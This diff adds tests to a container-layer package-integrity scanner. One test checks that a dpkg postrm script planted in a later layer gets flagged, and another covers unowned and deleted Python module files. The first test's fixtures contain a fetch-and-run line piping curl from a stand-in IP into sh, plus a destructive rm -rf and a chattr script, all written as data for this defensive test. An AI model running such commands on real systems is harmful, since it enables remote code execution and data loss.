@@ -118,6 +118,16 @@ def test_unowned_deleted_and_diverted(tmp_path: Path) -> None:
     assert "package.file-modified" not in found
 
 
+def test_the_scripts_of_packages_come_with_packages_only(tmp_path: Path) -> None:
+    script = F(b"#!/bin/sh\nrm -rf /var/lib/tool /var/log/tool /etc/tool\nchattr +i /etc/x\n", 0o755)
+    brought = {**installed("1.0", {"usr/bin/tool": TOOL}), "var/lib/dpkg/info/tool.postrm": script}
+    quiet = analyze_layers(tmp_path / "built", layer({"a": "1"}), layer(brought), layer({"b": "1"}, later=60))
+    assert findings(quiet, Severity.LOW) == {}
+    evil = F(b"#!/bin/sh\ncurl http://198.51.100.1/x | sh\n", 0o755)
+    planted = layer({"var/lib/dpkg/info/tool.postrm": evil}, later=60)
+    assert findings(analyze_layers(tmp_path / "planted", layer(brought), planted), Severity.MEDIUM)
+
+
 def test_configuration_is_nobodys_exchanged_file(tmp_path: Path) -> None:
     status = dpkg("1.0", {"etc/tool.conf": b"old"})
     status["var/lib/dpkg/status"] += f"Conffiles:\n /etc/tool.conf {md5(b'old')}\n"
@@ -160,6 +170,20 @@ def test_python_by_its_record_and_an_edited_record(tmp_path: Path) -> None:
     quiet = analyze_layers(tmp_path / "quiet", base, layer({"a": "1"}, later=60))
     assert "package.file-modified" not in findings(quiet)
     assert [(package.purl, package.licence) for package in quiet.packages] == [("pkg:pypi/big-lib@2.0", "BSD")]
+
+
+def test_a_module_that_no_record_lists_and_one_that_is_gone(tmp_path: Path) -> None:
+    folder = "usr/lib/python3/dist-packages"
+    base = layer(python_package(b"good"))
+    foreign = layer({f"{folder}/big_lib/helper.py": "x", f"{folder}/big_lib/x.pyc": "y"}, later=60)
+    found = findings(analyze_layers(tmp_path / "foreign", base, foreign))
+    assert paths(found["package.file-unowned"]) == {f"{folder}/big_lib/helper.py".encode()}
+    gone = layer({"a": "1"}, (f"{folder}/big_lib/__init__.py",), later=60)
+    assert "package.file-deleted" in findings(analyze_layers(tmp_path / "gone", base, gone))
+    new = python_package(b"new")
+    pip = layer({k.replace("ig", "ug"): v.replace("ig", "ug") if isinstance(v, str) else v for k, v in new.items()})
+    quiet = findings(analyze_layers(tmp_path / "pip", base, pip))
+    assert not {"package.file-modified", "package.file-unowned"} & set(quiet)
 
 
 def test_egg_info_and_node_are_listed_and_said_not_to_be_verified(tmp_path: Path) -> None:
